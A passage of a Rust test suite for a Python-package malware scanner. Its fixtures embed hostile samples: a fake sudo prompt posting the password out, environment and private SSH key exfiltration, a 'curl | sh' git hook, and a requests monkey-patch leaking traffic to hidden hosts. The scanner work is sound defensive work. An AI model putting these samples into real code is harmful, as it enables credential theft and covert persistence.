    // A parameter with a default, after the plain ones, takes nothing here.
    let with_default = hidden.replace("lambda s:", "lambda s, g=None:");
    for src in [
        hidden.to_owned(),
        format!("{hidden}print 'py2'\n"),
        with_default.clone(),
        format!("{with_default}print 'py2'\n"),
    ] {
        assert!(severity_of("pkg/_palette.py", &src, "exec-decoded").is_some_and(|s| s >= Severity::High), "{src}");
    }
    let plain = "def show(cls):\n    (lambda s: print(s.upper()))(cls.__name__)\n    return cls\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/show.py", bytes: plain.as_bytes() }]);
    assert!(report.risk_level < RiskLevel::Medium, "{:#?}", report.findings);
}

/// A process's options handed over as a dictionary (`Popen(cmd, **kw)`
/// with `kw = {"env": os.environ.copy(), ...}`) configure the child, as
/// `env=` does: the process handle it gives back holds none of the
/// environment, so a request naming the process sends no environment.
/// Both front-ends. Written for the test.
#[test]
fn a_process_started_with_an_options_dictionary_does_not_carry_its_environment() {
    let src = "import os, subprocess, urllib.request\n\
               def start(cmd):\n    env = os.environ.copy()\n    kw = {'env': env, 'stdout': subprocess.DEVNULL}\n    \
               return subprocess.Popen(cmd, **kw)\n\
               def main():\n    proc = start(['server'])\n    \
               urllib.request.urlopen('https://api.example.org/status?pid=' + str(proc.pid))\n";
    for src in [src.to_owned(), format!("{src}print 'py2'\n")] {
        assert_eq!(severity_of("tool/cli.py", &src, "exfiltration"), None, "{src}");
    }
    // The environment itself sent is still what it is.
    let sent = "import os, urllib.request\ndef main():\n    \
                urllib.request.urlopen('https://api.example.org/s', data=str(dict(os.environ)).encode())\n";
    assert!(severity_of("tool/cli.py", sent, "exfiltration").is_some_and(|s| s >= Severity::High));
}

/// What another program acts on by itself later (a git hook, IPython's
/// start-up folder, VS Code's tasks, pip's configuration, a script in
/// pyRevit's extensions folder), written while the package loads, is
/// persistence (high; from a helper another file calls while loading,
/// too); written when its user asks (a hook installer's `install`
/// command), medium. A path that only looks alike is nothing. Both
/// front-ends. Written for the test.
#[test]
fn files_another_program_runs_by_itself_written_at_load_are_persistence() {
    for (path, body) in [
        ("os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')", "'#!/bin/sh\\ncurl -s x | sh\\n'"),
        ("os.path.expanduser('~/.ipython/profile_default/startup/00-x.py')", "'import x'"),
        ("os.path.join(os.path.expanduser('~'), '.config', 'pip', 'pip.conf')", "'[global]\\nextra-index-url = x\\n'"),
        ("os.path.join(os.environ['APPDATA'], 'pyRevit', 'Extensions', 'Other.extension', 'startup.py')", "'import x'"),
    ] {
        let helper = format!("import os\ndef put():\n    with open({path}, 'w') as f:\n        f.write({body})\n");
        for (src, level) in [(format!("{helper}put()\n"), Severity::High), (helper.clone(), Severity::Medium)] {
            for src in [src.clone(), format!("{src}print 'py2'\n")] {
                assert_eq!(severity_of("pkg/_hooks.py", &src, "persistence-autorun"), Some(level), "{src}");
            }
        }
        let init = "from . import _hooks\n_hooks.put()\n";
        let report = scan_with_init(init, "pkg/_hooks.py", &helper);
        let f = report.findings.iter().find(|f| f.rule == "persistence-autorun");
        assert!(f.is_some_and(|f| f.severity == Severity::High), "{helper}\n{:#?}", report.findings);
    }
    for alike in [
        "import os\nwith open(os.path.join('docs', 'hooks.md'), 'w') as f:\n    f.write('x')\n",
        "import os\nwith open(os.path.join('build', 'startup', 'notes.txt'), 'w') as f:\n    f.write('x')\n",
        "import os\nwith open(os.path.join('app', 'extensions', 'list.txt'), 'w') as f:\n    f.write('x')\n",
    ] {
        assert_eq!(severity_of("pkg/__init__.py", alike, "persistence-autorun"), None, "{alike}");
    }
}

/// A password prompt passing itself off as sudo's asks for the system's
/// password: sent anywhere, it leaves like a credential store's contents
/// (a fake `[sudo] password for` prompt posting to the author's address).
/// A tool's own login prompt sending to the service it logs in to stays how
/// a client authenticates. Written for the test.
#[test]
fn a_password_asked_for_with_a_fake_sudo_prompt_and_sent_out_is_exfiltration() {
    let fake_sudo = "import getpass, requests\ndef main():\n    user = getpass.getuser()\n    \
                     pw = getpass.getpass('[sudo] password for %s: ' % user)\n    \
                     requests.post('https://collect.example.org/p', json={'text': '%s:%s' % (user, pw)})\n";
    assert_eq!(severity_of("sysfix/cli.py", fake_sudo, "exfiltration"), Some(Severity::Critical));
    let login = "import getpass, requests\ndef login(user):\n    pw = getpass.getpass('Password: ')\n    \
                 return requests.post('https://api.example.org/login', json={'user': user, 'password': pw})\n";
    assert!(severity_of("tool/cli.py", login, "exfiltration").is_none_or(|s| s < Severity::High));
}

/// A network library's request function replaced (`requests.Session.request
/// = hooked`, or a proxy put in `sys.modules`) in a file that also talks to
/// a raw IP or an address it decodes: every request the program makes can
/// be copied to the author (a typosquat wrapping `requests`). The same patch
/// in instrumentation that reports where its user configured is not this.
/// Written for the test.
#[test]
fn a_request_function_replaced_beside_a_hidden_address_is_interception() {
    let patched = "import requests, base64, threading\n_orig = requests.Session.request\n\
                   _H = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw==').decode()\n\
                   def _hooked(self, method, url, **kw):\n    \
                   requests.post(_H, json={'url': url, 'headers': dict(kw.get('headers') or {})})\n    \
                   return _orig(self, method, url, **kw)\n\
                   requests.Session.request = _hooked\n";
    let proxy = "import sys, importlib, urllib.request, json\n_real = importlib.import_module('requests')\n\
                 class _P:\n    def __getattr__(self, n):\n        return getattr(_real, n)\n    \
                 def post(self, url, *a, **kw):\n        \
                 urllib.request.urlopen('http://203.0.113.9:8080/c', data=json.dumps({'u': url}).encode())\n        \
                 return _real.post(url, *a, **kw)\n\
                 sys.modules['requests'] = _P()\n";
    let aliased = patched.replace("import requests,", "import requests as rq,").replace("requests.", "rq.");
    for src in [patched, proxy, &aliased] {
        assert_eq!(severity_of("requets/__init__.py", src, "request-interception"), Some(Severity::High), "{src}");
    }
    let instrumentation = "import os, requests\n_orig = requests.Session.send\n\
                           def _traced(self, req, **kw):\n    \
                           requests.post(os.environ['TRACE_URL'], json={'url': req.url})\n    \
                           return _orig(self, req, **kw)\n\
                           requests.Session.send = _traced\n";
    assert_eq!(severity_of("tracing/patch.py", instrumentation, "request-interception"), None);
}

/// A request to a public DNS resolver's address (`httpx.head("http://1.1.1.1")`)
/// checks that the internet answers: no author reads what reaches it, so
/// made while loading it is no beacon. Any other raw IP there still is.
/// Written for the test.
#[test]
fn a_connectivity_check_against_a_public_resolver_is_not_a_beacon() {
    let probe = "import httpx\ntry:\n    httpx.head('http://1.1.1.1', timeout=3)\n    IPV4 = True\nexcept Exception:\n    IPV4 = False\n";
    assert_eq!(severity_of("pkg/net.py", probe, "suspicious-callback"), None);
    for other in ["http://45.61.139.22", "http://1.1.1.10", "http://8.8.4.40:8080"] {
        let beacon = probe.replace("http://1.1.1.1", other);
        assert_eq!(severity_of("pkg/net.py", &beacon, "suspicious-callback"), Some(Severity::High), "{other}");
    }
}

#[test]
fn a_command_runs_what_its_names_held_then_not_what_they_are_given_later() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/tool.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "process-decoded").map(|f| f.severity)
    };
    // The decoded text is bound to the name only after the command ran,
    // through a list built from it before that.
    let after = "import base64, subprocess\ndef probe(target):\n    args = ['ping', '-c', '1']\n    \
                 args.append(target)\n    out = subprocess.run(args, capture_output=True)\n    \
                 for line in out.stdout.splitlines():\n        target = base64.b64decode(line)\n        \
                 print(target)\n";
    assert_eq!(level(after), None, "{after}");
    // Decoded before the command: it runs the decoded text.
    let before = after.replace(
        "    args = ['ping', '-c', '1']\n",
        "    target = base64.b64decode(target)\n    args = ['ping', '-c', '1']\n",
    );
    assert!(level(&before).is_some_and(|s| s >= Severity::High), "{before}");
    // In a loop, what the rest of the body assigns is what the next round runs.
    let looped = "import base64, subprocess, sys\ndef serve(blob):\n    cmd = 'true'\n    while True:\n        \
                  subprocess.run(cmd, shell=True)\n        cmd = base64.b64decode(sys.stdin.readline())\n";
    assert!(level(looped).is_some_and(|s| s >= Severity::High), "{looped}");
    // A nested function reads its enclosing function's names when it is
    // called, after everything before the call was assigned.
    let nested = "import base64, subprocess\ndef outer(blob):\n    def go():\n        \
                  subprocess.run(cmd, shell=True)\n    cmd = base64.b64decode(blob)\n    go()\n";
    assert!(level(nested).is_some_and(|s| s >= Severity::High), "{nested}");
}

#[test]
fn the_platform_a_download_is_built_for_is_not_who_or_where_it_runs() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
    };
    let beacon = |src: &str| rules(src).into_iter().find(|r| r.0 == "import-beacon" || r.0 == "host-identity-sent");
    // The operating system and processor pick the build to fetch.
    let build = "import platform, urllib.request\ninfo = platform.uname()\nsystem = info.system.lower()\n\
                 url = 'https://downloads.example.org/tool-%s-%s.tar.gz' % (system, info.machine)\n\
                 urllib.request.urlopen(url)\n";
    assert_eq!(beacon(build), None, "{build}");
    // The machine's name (its `node`), or the whole description, says which machine it is.
    for tell in ["info.node", "info"] {
        let src = build.replace("info.machine)", &format!("{tell})"));
        assert!(beacon(&src).is_some_and(|r| r.1 >= Severity::High), "{src}: {:?}", rules(&src));
    }
}

#[test]
fn a_method_of_a_literal_called_while_loading_runs_no_function_of_the_file() {
    let beacon = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "import-beacon" || f.rule == "host-identity-sent").map(|f| f.rule)
    };
    // `ARCH.get(...)` while loading is a dict's `get`, not `Client.get`.
    let src = "import platform, urllib.request\nARCH = {'x86_64': 'amd64', 'aarch64': 'arm64'}\n\
               class Client:\n    def get(self):\n        \
               return urllib.request.urlopen('http://203.0.113.9/?h=' + platform.node())\n\
               def arch():\n    names = []\n    names.append('x')\n    \
               return ARCH.get(platform.machine(), names.pop())\nKIND = arch()\n";
    assert_eq!(beacon(src), Some("host-identity-sent"), "{src}");
    // A value the file made otherwise may be the file's own client.
    for other in ["ARCH = Client()\n", "ARCH = make_client()\n"] {
        let made = src.replace("ARCH = {'x86_64': 'amd64', 'aarch64': 'arm64'}\n", other);
        assert_eq!(beacon(&made), Some("import-beacon"), "{made}");
    }
    // A parameter holds what its callers pass, whatever the function assigns it.
    let param = src
        .replace("def arch():\n", "def arch(ARCH):\n    ARCH = ARCH or {}\n")
        .replace("arch()\n", "arch(Client())\n");
    assert_eq!(beacon(&param), Some("import-beacon"), "{param}");
    // Also where the function only reads its parameter.
    let read_only =
        src.replace("def arch():\n", "def arch(ARCH):\n").replace("KIND = arch()\n", "KIND = arch(Client())\n");
    assert_eq!(beacon(&read_only), Some("import-beacon"), "{read_only}");
}

#[test]
fn an_ssh_keys_public_half_sent_to_be_signed_is_no_credential() {
    let exfiltration = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/ssh.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    let signed = "import os, json, pathlib, urllib.request\nKEY = pathlib.Path(os.path.expanduser('~/.ssh/id_ed25519'))\n\
                  def sign():\n    public = KEY.with_suffix('.pub').read_text()\n    \
                  body = json.dumps({'public_key': public}).encode()\n    \
                  return urllib.request.urlopen(urllib.request.Request('https://ca.example.com/sign', data=body))\n";
    assert!(exfiltration(signed).is_none_or(|s| s < Severity::High), "{signed}");
    let appended = signed.replace("KEY.with_suffix('.pub').read_text()", "open(str(KEY) + '.pub').read()");
    assert!(exfiltration(&appended).is_none_or(|s| s < Severity::High), "{appended}");
    // The private half is the credential.
    let private = signed.replace("KEY.with_suffix('.pub').read_text()", "KEY.read_text()");
    assert_eq!(exfiltration(&private), Some(Severity::Critical), "{private}");
}

#[test]
fn a_method_kept_as_the_objects_own_attribute_is_not_run_while_loading() {
    let beacon = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "import-beacon" || f.rule == "host-identity-sent").map(|f| f.rule)
    };
    // A facade made while loading keeps its service's method under a
    // shorter name, for its users to call.
    let facade = "import platform, threading, urllib.request\nclass Api:\n    def lookup(self):\n        \
                  return urllib.request.urlopen('http://203.0.113.9/?h=' + platform.node())\n\
                  class Facade:\n    def __init__(self):\n        self._api = Api()\n        \
                  self.lookup = self._api.lookup\nfacade = Facade()\nlookup = facade.lookup\n";
    assert_eq!(beacon(facade), Some("host-identity-sent"), "{facade}");
    // Another object's attribute is a hook its owner calls; a thread runs its target.
    for runs in ["self._api.on_open = self._api.lookup", "threading.Thread(target=self._api.lookup).start()"] {
        let src = facade.replace("self.lookup = self._api.lookup", runs);
        assert_eq!(beacon(&src), Some("import-beacon"), "{src}");
    }
}

#[test]
fn an_attribute_of_one_class_is_not_another_classs_of_the_same_name() {
    let upload = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/services.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    // Two services of one file, each with its own `self.url`: the decoded
    // one is the mirror's, the upload goes to the other's.
    let two = "import base64, requests\nclass Mirror:\n    def __init__(self):\n        \
               self.url = base64.b64decode('aHR0cDovLzIwMy4wLjExMy45L3g=').decode()\n    \
               def ping(self):\n        return requests.get(self.url)\n\
               class Service:\n    def __init__(self):\n        self.url = 'https://api.example.com/v1'\n    \
               def upload(self, path):\n        return requests.post(self.url, files={'f': open(path, 'rb')})\n";
    assert!(upload(two).is_none_or(|s| s < Severity::High), "{two}");
    // A subclass that sets no `url` of its own reads the one its base set.
    let inherited = two
        .replace("class Service:\n", "class Service(Mirror):\n")
        .replace("    def __init__(self):\n        self.url = 'https://api.example.com/v1'\n", "    pass\n");
    assert!(upload(&inherited).is_some_and(|s| s >= Severity::High), "{inherited}");
}
